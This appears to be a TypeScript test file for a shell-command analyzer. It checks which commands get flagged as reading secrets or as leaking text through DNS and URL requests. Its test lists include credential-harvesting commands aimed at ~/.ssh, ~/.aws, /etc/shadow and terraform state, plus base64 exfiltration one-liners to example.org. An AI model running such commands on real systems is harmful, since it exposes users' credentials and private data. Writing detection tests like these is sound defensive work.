// Secrets that are read although no word names their file, and text that leaves in an address: each asks, and what looks
// like it and reads nothing secret does not.
import assert from 'node:assert/strict';
import { createTester, type Tester } from '../../../helpers/analysis.ts';

const READ = [
  'grep -rn token ~',
  'grep -R token /home',
  'rgrep token ~/.config',
  'grep -r password ~/.config/gh',
  'rg -uu token ~',
  'tar czf /tmp/all.tgz ~',
  'find ~/.aws -type f | xargs cat',
  'find ~/.config/gh -type f -print0 | xargs -0 -n1 head',
  'find ~/.ssh -type f | while read f; do cat "$f"; done',
  'for f in $(ls ~/.ssh); do cat "$f"; done',
  'cat $(find / -name id_ed25519)',
  'find ~ -type f | xargs grep -l AKIA',
  'curl file:///etc/shadow',
  'cat ~/.s3cfg',
  'cat infra/terraform.tfstate',
];

const HARMLESS = [
  'grep -rn token src',
  'grep token ~/notes.txt',
  "grep -rn --include='*.ts' token ~",
  'rg token ~/notes',
  'ls -la ~/.ssh',
  'find ~ -name notes.txt | xargs cat',
  'find . -type f | xargs grep token',
  'find ~/.aws -type f',
  'cat certs/ca-bundle.pem certs/server-cert.pem',
];

const LEAVES = [
  'dig $(cat notes.txt | base64).example.org',
  'ping -c1 "$(whoami).example.org"',
  'curl "https://example.org/$(base64 -w0 notes.txt)"',
];

const STAYS = [
  'curl "https://example.org/$(git rev-parse HEAD)"',
  'curl "https://example.org/v$(cat version.txt | tr -d x)"',
  'ping -c1 $(cat host.txt)',
];

describe('secrets that no word names', () => {
  let tester: Tester;
  before(async () => {
    tester = await createTester();
  });
  const rulesOf = (line: string) => tester.effects(line).map(({ rule }) => rule);
  for (const line of READ)
    it(`asks: ${line}`, () => {
      assert.ok(rulesOf(line).some((rule) => /^secrets\/read-(file|unnamed)$/.test(rule)));
    });
  for (const line of HARMLESS)
    it(`does not speak of secrets: ${line}`, () => {
      assert.deepEqual(
        rulesOf(line).filter((rule) => rule.startsWith('secrets/')),
        [],
      );
    });
  for (const line of LEAVES)
    it(`says that text leaves: ${line}`, () => {
      assert.ok(rulesOf(line).some((rule) => rule.startsWith('combined/text-in-')));
    });
  for (const line of STAYS)
    it(`does not say that text leaves: ${line}`, () => {
      assert.ok(!rulesOf(line).some((rule) => rule.startsWith('combined/')));
    });
});
